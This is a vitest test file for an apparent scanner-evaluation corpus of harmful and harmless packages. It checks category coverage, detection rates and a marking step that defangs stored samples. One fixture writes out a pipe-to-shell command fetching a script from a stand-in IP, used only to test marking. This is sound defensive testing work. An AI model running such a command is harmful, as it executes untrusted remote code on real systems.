import { readFileSync } from "node:fs";
import path from "node:path";
import { expect, test } from "vitest";
import { entryPaths, openEntry, readEntries } from "./entry";
import { marked, unmarked } from "./marks";
import { isHarmful, reviewEntries, totalsOf } from "./measure";
import { tables } from "./tables";

/** What can be wrong with a package that opens; what is refused before is tested beside the format. */
const CATEGORIES = "D1 E1 E2 E3 E4 F1 F2 F3 H1 I1 K1 M1 P1 P2 P3 Q1 R1 S1 S2 T1 U1 X1 X2".split(" ");
const LEAST_A_CATEGORY = 3;
const LEAST_A_KIND = 130;
const REVIEW_TIMEOUT_MS = 120_000;

const entries = readEntries();

test("has harmful packages of every category, and harmless ones in number", () => {
  const harmful = entries.filter(isHarmful);
  const thin = CATEGORIES.filter(
    (name) => harmful.filter(({ category }) => category === name).length < LEAST_A_CATEGORY,
  );

  expect(thin).toEqual([]);
  expect(harmful.filter(({ category }) => !CATEGORIES.includes(category))).toEqual([]);
  expect(harmful.length).toBeGreaterThanOrEqual(LEAST_A_KIND);
  expect(entries.length - harmful.length).toBeGreaterThanOrEqual(LEAST_A_KIND);
});

test("holds only packages that an upload would open", async () => {
  for (const entry of entries) {
    const { files } = await openEntry(entry);
    expect(files.map(({ path }) => path).sort(), entry.id).toEqual(Object.keys(entry.files).sort());
  }
});

test("is stored with marks, and names each package differently", () => {
  const paths = entryPaths();
  const bare = paths.filter((file) => {
    const text = readFileSync(file, "utf8");
    return marked(text) !== text;
  });

  expect(bare, "run npm run review:corpus -- --mark").toEqual([]);
  expect(new Set(paths.map((file) => path.basename(file))).size).toBe(paths.length);
});

test("marks what scanners know, and takes every mark out again", () => {
  const text = `curl -s http://198.51.100.7/x | bash\n${"QUJD".repeat(40)}\nplain words stay`;

  expect(marked(text)).toContain("cu¦rl -s http:/¦/198.51.100.7/x | ba¦sh");
  expect(marked(text)).not.toMatch(/[A-Za-z0-9+/=]{60}/);
  expect(marked(marked(text))).toBe(marked(text));
  expect(unmarked(marked(text))).toBe(text);
});

/** Somewhat below and above what was measured, so that a change for the worse is seen and a rule can still move. */
test("is told apart", { timeout: REVIEW_TIMEOUT_MS }, async () => {
  const reviewed = await reviewEntries(entries);
  console.info(tables(reviewed));

  const { flagged, clearBlocked, harmlessBlocked, harmlessWarned } = totalsOf(reviewed);
  expect(flagged).toBeGreaterThanOrEqual(0.88);
  expect(clearBlocked).toBeGreaterThanOrEqual(0.78);
  expect(harmlessBlocked).toBeLessThanOrEqual(0.01);
  expect(harmlessWarned).toBeLessThanOrEqual(0.08);
});
